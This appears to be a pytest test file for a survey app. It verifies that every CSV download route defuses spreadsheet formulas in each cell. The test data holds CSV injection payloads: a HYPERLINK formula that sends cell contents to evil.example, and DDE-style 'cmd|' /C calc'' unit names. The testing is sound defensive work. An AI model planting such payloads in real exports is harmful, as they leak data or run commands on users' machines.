"""Issue 12, item 6: every CSV the app produces goes through one writer (reporting/csv_writer.py) that
defuses formulas. This walks every CSV download route of the app, on the demo city with every unit
renamed to start like a formula, and checks each cell of each file."""

from __future__ import annotations

import csv
import io

import pytest

from survey_app import campaigns
from survey_app.app import create_app
from survey_app.assessment import periods
from survey_app.reporting import csv_writer
from survey_app.tables import Response, Role, Unit
from tests.test_assessment_pages import SCHEME

PREFIXES = ["=", "+", "-", "@"]
HOSTILE_COMMENT = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def csv_routes() -> list[str]:
    return sorted({route.path for route in create_app().routes if route.path.endswith(".csv")})


@pytest.fixture
def hostile_city(run, demo_city) -> dict[str, list[str]]:
    """The demo city with formula-like unit names, a hostile comment, and an assessment period."""

    async def poison() -> None:
        for n, unit in enumerate(await Unit.select(Unit.id, Unit.name, Unit.name_en)):
            prefix = PREFIXES[n % len(PREFIXES)]
            await Unit.update({Unit.name: f"{prefix}{unit['name']}", Unit.name_en: f"{prefix}cmd|' /C calc'!A0"}).where(
                Unit.id == unit["id"]
            )
        first = await Response.select(Response.id, Response.answers).first().output(load_json=True)
        answers = {**first["answers"], "comment": HOSTILE_COMMENT}
        await Response.update({Response.answers: answers}).where(Response.id == first["id"])

    run(poison)
    run(periods.create, "y2026", SCHEME, "2026 年度考核", title_en="Assessment 2026", actor="t", campaigns_by_slug=None)
    return {"slug": [c.slug for c in run(campaigns.all_campaigns)], "period": ["y2026"]}


def test_every_csv_download_defuses_every_cell(client, staff, hostile_city):
    staff.as_role(Role.admin)
    routes = csv_routes()
    assert len(routes) >= 4  # responses, scores, units, league: a route that disappears is noticed
    walked, defused = 0, 0
    for route in routes:
        names = [name for name in ("slug", "period") if f"{{{name}:str}}" in route]
        assert len(names) == 1, f"{route}: fill its parameters here"
        for value in hostile_city[names[0]]:
            for lang in ("zh", "en"):
                r = client.get(route.replace(f"{{{names[0]}:str}}", value), params={"lang": lang})
                assert r.status_code == 200, (route, value, r.status_code)
                cells = [cell for row in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for cell in row]
                unsafe = [c for c in cells if c.startswith(csv_writer.FORMULA_STARTS)]
                assert unsafe == [], (route, value, unsafe[:5])
                walked += 1
                defused += sum(c[:2] in {"'=", "'+", "'-", "'@"} for c in cells)
    assert walked >= 2 * len(routes) and defused > walked  # the hostile names reached every file, defused


def test_defuse_touches_only_text_that_starts_like_a_formula():
    assert [csv_writer.defuse(c) for c in ["12.5", "大洋社区", " =1", 5, None, -1.5]] == [
        "12.5",
        "大洋社区",
        " =1",
        5,
        None,
        -1.5,
    ]
    formulas = ["=1+1", "-1+2", "+86", "@SUM(A1)", "\t=1", "\r=1", "-"]
    assert [csv_writer.defuse(c) for c in formulas] == ["'" + c for c in formulas]
